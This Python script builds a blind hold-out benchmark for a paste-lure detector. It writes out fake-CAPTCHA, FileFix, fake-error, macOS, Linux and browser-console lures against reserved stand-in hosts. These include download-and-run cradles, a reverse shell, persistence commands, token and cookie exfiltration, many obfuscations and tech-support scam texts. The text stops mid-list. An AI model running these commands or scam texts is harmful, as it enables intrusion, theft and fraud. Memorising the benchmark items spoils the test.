"""BLIND-18: the eighteenth blind hold-out set (bench/blind/README.md, "Blind-18").

Written by the helper "blind18" on 2026-12-07 without reading the detector: not the rules, the
LOLBin catalogue, the trust or Run-box lists, app/detection (beyond the PasteTarget values), the
case files, the dev corpus, docs/benchmarks.md or any other set's texts. Lures are our own,
written from the techniques that public threat reports describe (fake CAPTCHA / ClickFix,
FileFix, fake meetings and errors, Discord verification, AMOS-style macOS lures, Linux stagers,
tech-support and callback scams, ConsentFix, device-code phishing), on reserved names only. The
benign side is what people really paste; its own-page installers are real projects' documented
install lines, found by searching public README files (the README section says how).

Run it to rewrite lures-18.jsonl and benign-18.jsonl (deterministic; tests/test_blind_sets.py
pins both files to this script). Not imported by the app or the bench: the bench reads the jsonl
files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    OWN,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Benign,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    cmd_slice,
    deflate_b64,
    esc_hex,
    esc_oct,
    gzip_b64,
    hex_str,
    ip_int,
    js_uni,
    ps_concat,
    ps_format,
    reverse,
    xor_b64,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
PREFIX = "blind18"
LURES_OUT = HERE / "lures-18.jsonl"
BENIGN_OUT = HERE / "benign-18.jsonl"

# ----------------------------------------------------------------------------------------------
# Reserved names: script hosts and the pages that write the lures (never the same domain)
# ----------------------------------------------------------------------------------------------

_A = (
    "quill",
    "fjord",
    "marrow",
    "tinsel",
    "gantry",
    "osprey",
    "lichen",
    "bramble",
    "cobalt",
    "juniper",
    "ember",
    "kestrel",
    "sorrel",
    "tundra",
    "vellum",
    "wicker",
    "zephyr",
    "hollow",
    "pylon",
    "saffron",
    "thistle",
    "umber",
    "yarrow",
    "alder",
    "basalt",
    "cinder",
    "dormer",
    "fennel",
    "gossamer",
    "heron",
    "inkwell",
    "jetty",
    "kelp",
    "larkspur",
    "mullein",
    "nettle",
)
_B = (
    "relay",
    "mirror",
    "vault",
    "node",
    "edge",
    "depot",
    "cache",
    "beacon",
    "pantry",
    "ledger",
    "sluice",
    "harbor",
    "kiln",
    "trellis",
    "quay",
    "forge",
    "grotto",
    "spindle",
)
_TLD = ("test", "invalid", "example")


def host(i: int) -> str:
    """The i-th script host: two words and a reserved suffix (a different one each time)."""
    return f"{_A[i % len(_A)]}-{_B[(i * 7 + i // len(_A)) % len(_B)]}{i // 50 or ''}.{_TLD[i % 3]}"


_SITES = (
    "bakeshop-oriel",
    "tiny-tractor-parts",
    "harpsichord-guild",
    "velo-repair-lab",
    "alpaca-yarns",
    "quiet-harbor-dental",
    "mosaic-tiles-direct",
    "birdwatch-journal",
    "retro-console-forum",
    "lakeside-cabins",
    "the-knitting-nook",
    "pastry-school-online",
    "aquarium-hobbyist",
    "vintage-watch-talk",
    "campus-rideshare",
    "indie-game-jam",
    "kombucha-crafters",
    "chess-openings-db",
    "glassblowing-studio",
    "parish-newsletter",
    "canoe-rental-co",
    "ukulele-chords-hub",
    "seed-library-north",
    "orchid-society-west",
    "local-robotics-club",
    "tram-museum",
    "pottery-wheel-shop",
    "hiking-trail-notes",
    "sourdough-starters",
    "mineral-collectors",
    "jazz-vinyl-exchange",
    "drone-racing-league",
)
_PATHS = (
    "/",
    "/checkout",
    "/blog/2026/11/winter-menu",
    "/forum/t/8812",
    "/shop/cart",
    "/events/open-day",
    "/recipes/rye-loaf",
    "/members/login",
    "/gallery?page=3",
    "/news/2026-12-02",
    "/downloads",
    "/wp-admin/verify",
    "/product/7731",
    "/about-us",
)


def page(i: int) -> str:
    """The i-th lure page: a small site of another kind, on a reserved name."""
    site = _SITES[i % len(_SITES)]
    tld = _TLD[(i + 1) % 3]
    sub = ("", "www.", "shop.", "blog.")[(i // len(_SITES)) % 4]
    return f"https://{sub}{site}.{tld}{_PATHS[(i * 5) % len(_PATHS)]}"


# ----------------------------------------------------------------------------------------------
# Lures
# ----------------------------------------------------------------------------------------------

# Verification tails a live fake-CAPTCHA page puts after the command (what the Run box shows)
TAILS = (
    "# ✅ I am not a robot - reCAPTCHA Verification ID: 48213",
    "# Cloudflare Ray ID: 8f31c0aa9e2b - human check",
    "REM Verification complete - press Enter",
    "# Human verification token 90021-AF",
    "# 🔒 Secure check passed (hCaptcha #5530)",
    "# Verify you are human - ID 7Q-2281",
    "# I'm not a robot: ✓ step 3 of 3",
    "# Cloud check hash=71ac00f2 (do not edit)",
    "# Nicht-Roboter-Bestätigung ID 66120",
    "# Vérification humaine ID 3321",
    "# Verificación humana completada 4471",
    "# Подтверждение: я не робот 5512",
    "# 人机验证 ID 88230",
    "# Verifica umana completata 9040",
)

PAD = (" " * 48, EMSP * 40, NBSP * 56, " " * 80, ENSP * 44, IDSP * 30, NNBSP * 50)


def tail(i: int) -> str:
    return PAD[i % len(PAD)] + TAILS[i % len(TAILS)]


def win_payloads(h: str, n: int) -> list[str]:
    """Windows Run-box / terminal payloads as live lure pages write them (host h, number n)."""
    ipd = ip_int(f"203.0.113.{10 + n % 200}")
    return [
        f'powershell -w h -nop -c "iex(irm https://{h}/v2/chk?u={n})"',
        f"powershell -WindowStyle Hidden -Command \"$r=iwr -useb 'https://{h}/cf/ray{n}.ps1';iex $r.Content\"",
        f'cmd /c start /min powershell -ep bypass -c "irm https://{h}/s/{n} | iex"',
        f"mshta https://{h}/turnstile/verify{n}.hta",
        f'mshta "https://{h}/a?id={4400 + n}"',
        f"msiexec /q /i https://{h}/pkg/CaptchaHelper{n}.msi",
        f"rundll32 \\\\{h}@SSL\\DavWWWRoot\\s{n}\\auth.dll,Start",
        f"regsvr32 /s /n /u /i:https://{h}/k{n}.sct scrobj.dll",
        f"certutil -urlcache -split -f https://{h}/upd{n}.exe %TEMP%\\upd.exe && %TEMP%\\upd.exe",
        f"bitsadmin /transfer j{n} /download /priority high https://{h}/wu.exe %PUBLIC%\\wu.exe & start %PUBLIC%\\wu.exe",
        f'cmd /c "finger ver{n}@{h} | cmd"',
        f"conhost --headless powershell -c \"iex (New-Object Net.WebClient).DownloadString('https://{h}/h{n}')\"",
        f'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;(irm https://{h}/x{n})|iex"',
        f"cmd /c curl -sko %TEMP%\\c{n}.vbs https://{h}/c.vbs & wscript %TEMP%\\c{n}.vbs",
        f'powershell -c "Start-BitsTransfer https://{h}/p{n}.zip $env:TEMP\\p.zip; Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p -Force; & $env:TEMP\\p\\setup.exe"',
        f"cmd /c pushd \\\\{h}\\pub{n} & start launcher.bat",
        f"cmd /c net use Q: https://{h}/dav{n} & Q:\\run.cmd",
        "powershell -nop -w h -enc " + b64_utf16(f"iex(irm https://{h}/e{n})"),
        "powershell \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
        + b64(f"irm https://{h}/b{n} | iex")
        + "')))\"",
        f'cmd /c "for /f "tokens=*" %i in (\'nslookup -q=txt k{n}.{h} 2^>nul ^| find "="\') do %i"',
        f"powershell -c \"$d=Resolve-DnsName -Type TXT c{n}.{h}; iex ($d.Strings -join '')\"",
        f'wmic process call create "powershell -w h -c irm https://{h}/w{n}|iex"',
        f'schtasks /create /sc minute /mo 30 /tn OneDriveSync{n} /tr "powershell -w h -c irm https://{h}/b|iex" /f',
        f'cmd /c "echo Set o=CreateObject(^"MSXML2.XMLHTTP^"):o.Open ^"GET^",^"https://{h}/d{n}.vbs^",0:o.Send:Execute o.responseText > %TEMP%\\v.vbs & cscript //nologo %TEMP%\\v.vbs"',
        f"powershell -c \"$c=New-Object System.Net.Http.HttpClient; iex $c.GetStringAsync('https://{h}/q{n}').Result\"",
        f'cmd /c start /b powershell -nop -w 1 -c "&([scriptblock]::Create((irm https://{h}/sb{n})))"',
        f'powershell "IEX ((irm https://{h}/api/msg{n} -Method GET).note.body)"',
        f'powershell -w h -c "iex(iwr -UseBasicParsing http://{ipd}/c{n})"',
        f"mshta http://198.0x33.100.{n % 250 + 1}/q{n}",
        f'"C:\\Windows\\System32\\mshta.exe" vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h irm https://{h}/m{n}|iex"",0:close")',
        f'cmd /c "set a=power&& set b=shell&& call %a%%b% -c irm https://{h}/e{n}|iex"',
        f'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c mshta https://{h}/ff{n}"',
        f'cmd /c "curl -s https://{h}/p{n}.txt | powershell -"',
        f'pcalua.exe -a powershell.exe -c "-w h irm https://{h}/pc{n}|iex"',
        f'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://{h}/svc{n}.exe -o $env:APPDATA\\svc.exe; saps $env:APPDATA\\svc.exe"',
        f"msiexec /package http:\\\\{h}\\dl\\..\\captcha\\{77100 + n} /quiet",
        f"powershell -w h -c \"$b=(New-Object Net.WebClient).DownloadData('https://{h}/ld{n}');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)\"",
        f'cmd /c "powershell -w h -c Invoke-Expression (Invoke-WebRequest https://{h}/t{n} -UseBasicParsing).Content"',
        f'powershell -c "iwr https://{h}/f{n}.zip -OutFile $env:LOCALAPPDATA\\f.zip; tar -xf $env:LOCALAPPDATA\\f.zip -C $env:LOCALAPPDATA; start $env:LOCALAPPDATA\\f\\Updater.exe"',
        f"cmd.exe /c cmdkey /add:{h} /user:guest /pass:guest && start regsvr32 /s \\\\{h}\\g{n}\\demo.dll",
        f"powershell -c \"$x=New-Object -ComObject WinHttp.WinHttpRequest.5.1;$x.Open('GET','https://{h}/wh{n}',0);$x.Send();iex $x.ResponseText\"",
        f"powershell -noni -w h -c \"$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('https://{h}/m{n}.msi')\"",
    ]


def mac_payloads(h: str, n: int) -> list[str]:
    """macOS Terminal payloads (AMOS/Odyssey/MacSync-style), host h, number n."""
    return [
        f'/bin/bash -c "$(curl -fsSL https://{h}/install{n}.sh)"',
        f"curl -fsSL https://{h}/m{n} | zsh",
        "echo '" + b64(f"curl -s https://{h}/d{n} | bash") + "' | base64 -D | zsh",
        f"osascript -e 'do shell script \"curl -s https://{h}/a{n} | sh\"'",
        f"curl -ko /tmp/helper{n} https://{h}/helper && xattr -c /tmp/helper{n} && chmod +x /tmp/helper{n} && /tmp/helper{n}",
        f"curl -s https://{h}/s{n}.applescript | osascript",
        f'export BUILD_ID=v3.{n}.1 export TRACE=a8c1 curl -fsS "https://{h}/setup/{n}.sh" | zsh',
        f"read -s -p 'Password: ' P; echo \"$P\" | sudo -S xattr -rd com.apple.quarantine /Applications/Helper.app; curl -s https://{h}/p{n} | sudo -S bash",
        f'nohup bash -c "curl -s https://{h}/bg{n} | bash" >/dev/null 2>&1 &',
        f"cd /tmp && curl -sO https://{h}/Update{n}.dmg && hdiutil attach -quiet Update{n}.dmg && cp -R /Volumes/Update/Update.app /Applications/ && xattr -cr /Applications/Update.app && open /Applications/Update.app",
        "echo '" + gzip_b64(f"curl -s https://{h}/z{n} | sh") + "' | base64 -D | gunzip | sh",
        f"curl -s https://{h}/la{n}.plist -o ~/Library/LaunchAgents/com.apple.sync{n}.plist && launchctl load ~/Library/LaunchAgents/com.apple.sync{n}.plist",
    ]


def linux_payloads(h: str, n: int) -> list[str]:
    ip = f"198.51.100.{20 + n % 200}"
    return [
        f"wget -qO- https://{h}/x{n} | sh",
        f"python3 -c \"import urllib.request as u;exec(u.urlopen('https://{h}/p{n}').read())\"",
        f"perl -e 'use LWP::Simple;eval(get(\"https://{h}/pl{n}\"))'",
        f"bash -i >& /dev/tcp/{ip}/44{n % 90 + 10} 0>&1",
        f"curl https://{h}/k{n} -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k &",
        f'(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://{h}/c{n}|sh") | crontab -',
        f"curl -sL http://{ip}/i{n}.sh | sudo bash",
        f"bash <(wget -qO- https://{h}/fix{n}.sh)",
    ]


def js_payloads(h: str, n: int) -> list[str]:
    """Browser-console payloads (Discord / Roblox / 'verify' self-XSS), host h, number n."""
    src = f"fetch('https://{h}/c{n}.js').then(r=>r.text()).then(eval)"
    return [
        src,
        "eval(atob('"
        + b64(f"fetch('https://{h}/t{n}',{{method:'POST',body:document.cookie}})")
        + "'))",
        "let t;webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(let m of Object.values(r.c))try{if(m.exports?.default?.getToken)t=m.exports.default.getToken()}catch{}}]);"
        f"fetch('https://{h}/v{n}',{{method:'POST',body:t}})",
        f"$.getScript('https://{h}/r{n}.js')",
        f"document.body.appendChild(Object.assign(document.createElement('script'),{{src:'https://{h}/x{n}.js'}}))",
        f"javascript:void(fetch('https://{h}/b{n}?c='+encodeURIComponent(document.cookie)))",
        "new Function(atob('" + b64(f"import('https://{h}/m{n}.mjs')") + "'))()",
        "eval(String.fromCharCode("
        + char_codes(f"fetch('https://{h}/f{n}').then(r=>r.text()).then(eval)")
        + "))",
        f"fetch('https://{h}/ls{n}',{{method:'POST',body:JSON.stringify(localStorage)}})",
        f"var s=document.createElement('script');s.src='//{h}/rbx{n}.js';document.head.appendChild(s)",
    ]


# Social wrappers pages put around the command (English and other languages)
WRAP_RUN = (
    "1. Press Windows + R\n2. Press CTRL + V\n3. Press Enter\n\n{cmd}",
    "{cmd}",
    "To finish verification, open Run (Win+R), paste and press Enter:\n{cmd}",
    "{cmd}\n\nVerification steps: ⊞ Win + R → Ctrl + V → Enter",
    "Drücken Sie Win+R, fügen Sie ein (Strg+V) und bestätigen Sie mit Enter:\n{cmd}",
    "Appuyez sur Windows+R, collez (Ctrl+V) puis Entrée :\n{cmd}",
    "{cmd}\r\n",
    "Fix the display error: Win+R, paste, Enter.\n{cmd}",
)


def add_live_page_lures(L: Lures) -> None:
    """As a live-site crawl captures them: a page, a wrapper, a command, often a tail."""
    n = 0
    # Windows Run box: every payload shape once, on its own host and page, most with a tail
    for k in range(len(win_payloads("x.test", 0))):
        n += 1
        cmd = win_payloads(host(n), n)[k]
        text = cmd + tail(n) if k % 4 != 3 else cmd
        wrapped = WRAP_RUN[n % len(WRAP_RUN)].format(cmd=text) if k % 3 == 0 else text
        L.lure("clickfix-run", RUN, page(n), wrapped)
    # The Windows Terminal (Win+X, I) variant: same shapes pasted into a terminal
    for k in (0, 2, 8, 11, 13, 17, 20, 24, 27, 32, 36, 38):
        n += 1
        cmd = win_payloads(host(n), n)[k]
        L.lure("clickfix-winx-terminal", TERM, page(n), cmd + (tail(n) if k % 2 else ""))
    # FileFix: the command, padding, then a fake path for the Explorer address bar
    paths = (
        r"C:\company\internal-secure\filedrive\HRPolicy.docx",
        r"C:\Users\Public\Documents\Q4-Bonus-Statement.pdf",
        r"\\fileserver\shared\Finance\Invoice_88213.xlsx",
        r"C:\Shared\Legal\NDA_signed_2026.pdf",
        r"D:\Payroll\December\payslip_0412.pdf",
        r"C:\Program Files\Adobe\Acrobat\Reader\verify.pdf",
        r"\\corp-share\IT\Policies\Acceptable-Use-v7.docx",
        r"C:\Users\Public\Downloads\Shipping_Label_DHL.pdf",
    )
    for j, k in enumerate((0, 1, 2, 3, 11, 15, 16, 17, 18, 24, 25, 30, 33, 37, 39, 40)):
        n += 1
        cmd = win_payloads(host(n), n)[k]
        pad = PAD[j % len(PAD)]
        L.lure("filefix-explorer", EXP, page(n), f"{cmd}{pad}# {paths[j % len(paths)]}")
    # Fake meeting / fake error pages (Teams, Zoom, Meet, Google Docs, Word) with a Run-box fix
    intros = (
        "Microphone access blocked. To fix, press Win+R and paste:\n",
        "Zoom Workplace update required to join the meeting. Run this fix:\n",
        "Google Meet: your camera driver is out of date. Copy the fix below, press Win+R, paste, Enter.\n",
        "Word Online cannot display this document (error 0x80070005). Repair with:\n",
        "Teams: 'We couldn't connect your audio'. Open PowerShell as admin and paste:\n",
        "Chrome: Aw, Snap! rendering error STATUS_ACCESS_VIOLATION. Apply the fix:\n",
        "Your DNS cache is corrupted. Press Win+R and paste the repair command:\n",
        "WebView2 runtime missing. Install it with:\n",
    )
    for j, k in enumerate((1, 3, 5, 6, 7, 9, 12, 14, 19, 21, 26, 28, 29, 31, 34, 35)):
        n += 1
        cmd = win_payloads(host(n), n)[k]
        target = TERM if "PowerShell as admin" in intros[j % len(intros)] else RUN
        L.lure("fake-error-meeting", target, page(n), intros[j % len(intros)] + cmd)
    # macOS: fake CAPTCHA / fake GitHub verification / fake app download pages, Terminal
    mac_intros = (
        "macOS users: open Terminal (⌘ + Space, type Terminal) and paste:\n",
        "To verify you are human on Mac, paste this in Terminal and press Return:\n",
        "",
        "Install for macOS (Apple Silicon & Intel):\n",
        "GitHub security check — run in Terminal to confirm your identity:\n",
        "Если вы на Mac, вставьте в Терминал:\n",
    )
    for r in range(2):
        for k in range(len(mac_payloads("x.test", 0))):
            n += 1
            cmd = mac_payloads(host(n), n)[k]
            L.lure(
                "macos-terminal",
                TERM,
                page(n),
                mac_intros[(k + r) % len(mac_intros)] + cmd,
                platform="macos",
            )
    # Linux: fake package fix / fake CAPTCHA for Linux visitors
    for k in range(len(linux_payloads("x.test", 0))):
        n += 1
        cmd = linux_payloads(host(n), n)[k]
        intro = ("Linux: ", "Run as root to fix the broken repository key:\n", "", "# verify\n")[
            k % 4
        ]
        L.lure("linux-stager", TERM, page(n), intro + cmd, platform="linux")
    # Browser console: Discord / Roblox / 'verify your account' pages
    con_intros = (
        "To get the Verified role, press F12, open Console, paste this and press Enter:\n",
        "Roblox free Robux: open DevTools (Ctrl+Shift+J) and paste:\n",
        "",
        "Type 'allow pasting' first, then paste:\n",
        "Bot verification (Carl-bot style): console → paste → enter\n",
    )
    for k in range(len(js_payloads("x.test", 0))):
        n += 1
        cmd = js_payloads(host(n), n)[k]
        L.lure(
            "browser-console", CON, page(n), con_intros[k % len(con_intros)] + cmd, platform="any"
        )
    # A URL with a fake verification tail after it (no command around it)
    for j, ext in enumerate(
        ("verify.hta", "check.bat", "captcha.msi", "id.vbs", "human.cmd", "ray.ps1")
    ):
        n += 1
        text = f"https://{host(n)}/{ext}{tail(n)}"
        L.lure("url-verify-tail", RUN if j % 2 == 0 else EXP, page(n), text)


def add_ioc_lures(L: Lures) -> None:
    """Commands as vendor IOC files and reports list them: no page, only where it was pasted."""
    base = 400
    for k in range(0, 42):
        i = base + k
        cmd = win_payloads(host(i), i)[(k * 5) % 42]
        L.ioc("ioc-windows", cmd, target=RUN if k % 5 else TERM)
    for k in range(6):
        i = base + 60 + k
        L.ioc(
            "ioc-macos", mac_payloads(host(i), i)[(k * 2 + 1) % 12], target=TERM, platform="macos"
        )
    for k in range(4):
        i = base + 70 + k
        L.ioc("ioc-linux", linux_payloads(host(i), i)[(k * 3) % 8], target=TERM, platform="linux")


def add_fixture_obfuscations(L: Lures) -> None:
    """Obfuscations as other detectors' fixtures spell them (each decodes to a real cradle)."""
    i = 500

    def nx() -> str:
        nonlocal i
        i += 1
        return host(i)

    h = nx()
    L.lure(
        "obf-ps-alias", RUN, page(i), f'powershell -c "&(gcm i*x)(&(gcm *e-R*d) https://{h}/a1)"'
    )
    h = nx()
    L.lure("obf-ps-alias", RUN, page(i), f'powershell -w h -c "(irm https://{h}/a2)|&(gal i?x)"')
    h = nx()
    L.ioc(
        "obf-ps-alias",
        f"powershell -c \".(gcm ('I'+'EX')) (.(gcm ('Inv'+'oke-Res'+'tMethod')) 'https://{h}/a3')\"",
    )
    h = nx()
    L.ioc(
        "obf-ps-wildcard-path",
        f'& (dir C:\\W*\\S*32\\W*\\v1.0\\p*l.e*) -w h -c "irm https://{h}/a4|iex"',
    )
    h = nx()
    L.lure(
        "obf-ps-wildcard-path",
        RUN,
        page(i),
        f"&(gi C:\\Wi*\\Sy*32\\cu*l.e*) -s https://{h}/a5 -o $env:TEMP\\a5.ps1; &(gcm po*sh*l.e*) $env:TEMP\\a5.ps1",
    )
    h = nx()
    L.lure(
        "obf-ps-format",
        RUN,
        page(i),
        f"powershell -c \"$u={ps_format(f'https://{h}/f1')};&('{{1}}{{0}}' -f 'EX','I')(irm $u)\"",
    )
    h = nx()
    L.ioc(
        "obf-ps-format",
        f"powershell -c \"iex (New-Object Net.WebClient).('{{2}}{{0}}{{1}}' -f 'ownloadS','tring','D')('https://{h}/f2')\"",
    )
    h = nx()
    L.lure(
        "obf-ps-join",
        RUN,
        page(i),
        'powershell -c "iex ([char[]](' + char_codes(f"irm https://{h}/j1") + ") -join '')\"",
    )
    h = nx()
    L.ioc(
        "obf-ps-join",
        'powershell -c "$s=-join('
        + ",".join(f"[char]{ord(c)}" for c in f"iwr https://{h}/j2|iex")
        + ');iex $s"',
    )
    h = nx()
    L.lure(
        "obf-ps-concat",
        RUN,
        page(i),
        f'powershell -c "iex (irm {ps_concat(f"https://{h}/c1", 3)})"',
    )
    h = nx()
    L.lure(
        "obf-ps-backtick", RUN, page(i), f'p`owe`rsh`ell -w h -c "i`ex(i`wr -useb https://{h}/bt1)"'
    )
    h = nx()
    L.ioc(
        "obf-ps-backtick", f'powershell -c "&(\\"I`E`X\\") (Inv`oke-Rest`Method https://{h}/bt2)"'
    )
    h = nx()
    L.lure(
        "obf-ps-envindex",
        RUN,
        page(i),
        f"powershell -c \"irm https://{h}/ei1 | &($env:ComSpec[4,15,25]-join'')\"",
    )
    h = nx()
    L.ioc(
        "obf-ps-envindex", f"powershell -c \"&($PSHOME[21]+$PSHOME[30]+'x') (irm https://{h}/ei2)\""
    )
    h = nx()
    L.lure(
        "obf-ps-reverse",
        RUN,
        page(i),
        "powershell -c \"iex (-join ('"
        + reverse(f"irm https://{h}/r1")
        + "'[-1..-"
        + str(len(f"irm https://{h}/r1"))
        + ']))"',
    )
    h = nx()
    L.ioc(
        "obf-ps-replace",
        f"powershell -c \"iex ('iZZwr https://{h}/rp1 -useb|iZZex' -replace 'ZZ','')\"",
    )
    h = nx()
    L.lure(
        "obf-ps-replace",
        RUN,
        page(i),
        f"powershell -c \"iex ('irm hxxps://{h}/rp2'.Replace('hxxps','https'))\"",
    )
    h = nx()
    L.lure(
        "obf-ps-xor",
        RUN,
        page(i),
        'powershell -c "$k=23;iex (-join (('
        + xor_codes(f"irm https://{h}/x1", 23)
        + ')|%{[char]($_ -bxor $k)}))"',
    )
    h = nx()
    L.ioc(
        "obf-ps-xor-b64",
        "powershell -c \"$b=[Convert]::FromBase64String('"
        + xor_b64(f"iwr https://{h}/x2|iex", 91)
        + "');iex (-join ($b|%{[char]($_ -bxor 91)}))\"",
    )
    h = nx()
    L.lure(
        "obf-ps-deflate",
        RUN,
        page(i),
        "powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
        + deflate_b64(f"irm https://{h}/d1 | iex")
        + "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    )
    h = nx()
    L.ioc(
        "obf-ps-gzip",
        "powershell -c \"$m=[IO.MemoryStream][Convert]::FromBase64String('"
        + gzip_b64(f"iex(iwr https://{h}/g1 -UseBasicParsing)")
        + "');iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,'Decompress'))).ReadToEnd()\"",
    )
    h = nx()
    L.lure(
        "obf-ps-unescape",
        RUN,
        page(i),
        "powershell -c \"iex ([Uri]::UnescapeDataString('"
        + "".join(f"%{b:02X}" for b in f"irm https://{h}/u1".encode())
        + "'))\"",
    )
    h = nx()
    L.ioc(
        "obf-ps-hex",
        "powershell -c \"iex (-join ('"
        + hex_str(f"irm https://{h}/hx1")
        + "' -split '(..)' -ne '' |%{[char][Convert]::ToByte($_,16)}))\"",
    )
    h = nx()
    L.lure(
        "obf-ps-mixedcase",
        RUN,
        page(i),
        f'PoWeRsHeLl -W HiDdEn -NoP -C "InVoKe-ExPrEsSiOn (InVoKe-RestMethod hTtPs://{h}/mc1)"',
    )
    h = nx()
    L.ioc("obf-ps-setalias", f'powershell -c "sal q iex; sal w irm; q (w https://{h}/sa1)"')
    h = nx()
    L.lure(
        "obf-cmd-carets",
        RUN,
        page(i),
        carets("cmd /c start /min powershell") + f' -w h -c "irm https://{h}/ca1|iex"',
    )
    h = nx()
    L.ioc("obf-cmd-carets", "c^m^d /c " + carets("mshta", 1) + f" https://{h}/ca2.hta")
    pool = "abcdefghijklmnopqrstuvwxyz"
    h = nx()
    L.lure(
        "obf-cmd-substring",
        RUN,
        page(i),
        f'cmd /v /c "set z={pool}&& call %z:~15,1%%z:~14,1%%z:~22,1%%z:~4,1%%z:~17,1%shell -c irm https://{h}/ss1^|iex"',
    )
    h = nx()
    L.ioc(
        "obf-cmd-substring",
        f'cmd /c "set q={pool}&&call {cmd_slice("mshta", pool, "q")} https://{h}/ss2"',
    )
    h = nx()
    L.lure(
        "obf-cmd-delayed",
        RUN,
        page(i),
        f'cmd /v:on /c "set x=pow&&set y=ersh&&set w=ell&&call !x!!y!!w! -nop -c iwr https://{h}/dl1 -useb^|iex"',
    )
    h = nx()
    L.ioc(
        "obf-cmd-env-comspec",
        f'%COMSPEC% /k s^t^a^r^t "" /min for /f "skip=8 delims=" %h in (\'f^^i^^n^^g^^e^^r gate@{h}\') do call %h & exit',
    )
    h = nx()
    L.lure(
        "obf-sh-quotes",
        TERM,
        page(i),
        f"c''u\"\"rl -fs''SL ht''tps://{h}/q1 | b''a''sh",
        platform="macos",
    )
    h = nx()
    L.ioc(
        "obf-sh-ansi-c",
        f"$'\\x63\\x75\\x72\\x6c' -s https://{h}/q2 | $'\\x73\\x68'",
        target=TERM,
        platform="linux",
    )
    h = nx()
    L.lure(
        "obf-sh-rev",
        TERM,
        page(i),
        f"echo '{reverse(f'curl -s https://{h}/q3 | bash')}' | rev | bash",
        platform="linux",
    )
    h = nx()
    L.ioc(
        "obf-sh-xxd",
        f"echo {hex_str(f'curl -fsSL https://{h}/q4|sh')} | xxd -r -p | sh",
        target=TERM,
        platform="macos",
    )
    h = nx()
    L.lure(
        "obf-sh-esc",
        TERM,
        page(i),
        f"bash -c \"$(printf '{esc_hex(f'curl -s https://{h}/q5')}')\" | bash",
        platform="linux",
    )
    h = nx()
    L.ioc(
        "obf-sh-oct",
        f"eval \"$(printf '{esc_oct(f'wget -qO- https://{h}/q6|sh')}')\"",
        target=TERM,
        platform="linux",
    )
    h = nx()
    L.lure(
        "obf-sh-ifs",
        TERM,
        page(i),
        f"curl${{IFS}}-s${{IFS}}https://{h}/q7|${{SHELL:0:0}}bash",
        platform="linux",
    )
    h = nx()
    L.lure(
        "obf-js-bracket",
        CON,
        page(i),
        f"window['ev'+'al'](await (await fetch('https://{h}/j1')).text())",
        platform="any",
    )
    h = nx()
    L.ioc(
        "obf-js-atob-member",
        f"this[atob('ZXZhbA==')](await (await fetch('//{h}/j2')).text())",
        target=CON,
        platform="any",
    )
    h = nx()
    inner = 'fetch("https://' + h + '/j3").then(r=>r.text()).then(eval)'
    L.lure("obf-js-unicode", CON, page(i), "eval('" + js_uni(inner) + "')", platform="any")
    h = nx()
    L.lure(
        "obf-js-javascript-junk",
        UNK,
        page(i),
        f"  \t javascript:/*--verify--*/(function(){{var s=document.createElement('script');s.src='https://{h}/j4.js';document.body.append(s)}})()",
        platform="any",
    )
    h = nx()
    L.ioc(
        "obf-js-fromcharcode",
        "Function(String.fromCharCode("
        + char_codes(f"fetch('https://{h}/j5').then(r=>r.text()).then(eval)")
        + "))()",
        target=CON,
        platform="any",
    )
    h = nx()
    L.lure(
        "obf-zwsp", RUN, page(i), f'pow{ZWSP}ershell -w h -c "ir{ZWSP}m https://{h}/z1 | ie{ZWSP}x"'
    )
    h = nx()
    L.lure(
        "obf-homoglyph-tail",
        RUN,
        page(i),
        f"mshta https://{h}/hg1.hta  # ✅ hυmаn vаlіdаtiοn ID: 2291",
    )
    h = nx()
    L.ioc(
        "obf-ps-steg",
        f'powershell -c "$p=New-Object System.Drawing.Bitmap((iwr https://{h}/logo.png -UseBasicParsing).RawContentStream);$o=foreach($y in 0..19){{foreach($x in 0..99){{[char]$p.GetPixel($x,$y).B}}}};iex (-join $o)"',
    )


# Scam and callback texts: one per language with a (fictitious, 555) number
SCAMS = (
    (
        "en",
        "WARNING! Your computer has been blocked. Windows Defender detected Trojan:Win32/Zbot on this PC. Do not close this window or restart. Call Microsoft Support now: +1 (555) 014-2277 (toll free).",
    ),
    (
        "de",
        "ACHTUNG: Ihr Computer wurde gesperrt! Verdächtige Aktivitäten erkannt. Schalten Sie den PC nicht aus und rufen Sie sofort den Microsoft-Support an: +49 555 0183 221. Fehlercode: 0x80072ee7.",
    ),
    (
        "fr",
        "Alerte de sécurité : votre ordinateur est infecté et vos données bancaires sont en danger. Ne redémarrez pas. Appelez immédiatement le support technique au +33 5 55 01 42 77.",
    ),
    (
        "es",
        "¡Su equipo ha sido bloqueado por motivos de seguridad! Se detectó un virus peligroso. No apague el ordenador. Llame ahora al soporte técnico de Windows: +34 555 019 884.",
    ),
    (
        "it",
        "Il tuo PC è stato bloccato a causa di attività sospette. Non spegnere il computer. Chiama subito l'assistenza Microsoft al numero verde +39 0555 018 342.",
    ),
    (
        "pt",
        "Seu computador foi bloqueado! Detectamos um spyware que está roubando suas senhas. Não desligue o computador. Ligue agora para o suporte: +55 11 5555-0198.",
    ),
    (
        "nl",
        "Uw computer is geblokkeerd wegens verdachte activiteit. Schakel de computer niet uit. Bel direct de Microsoft helpdesk: +31 20 555 0147.",
    ),
    (
        "pl",
        "UWAGA! Twój komputer został zablokowany z powodu wykrycia wirusa. Nie wyłączaj komputera. Zadzwoń natychmiast do wsparcia technicznego: +48 555 012 884.",
    ),
    (
        "tr",
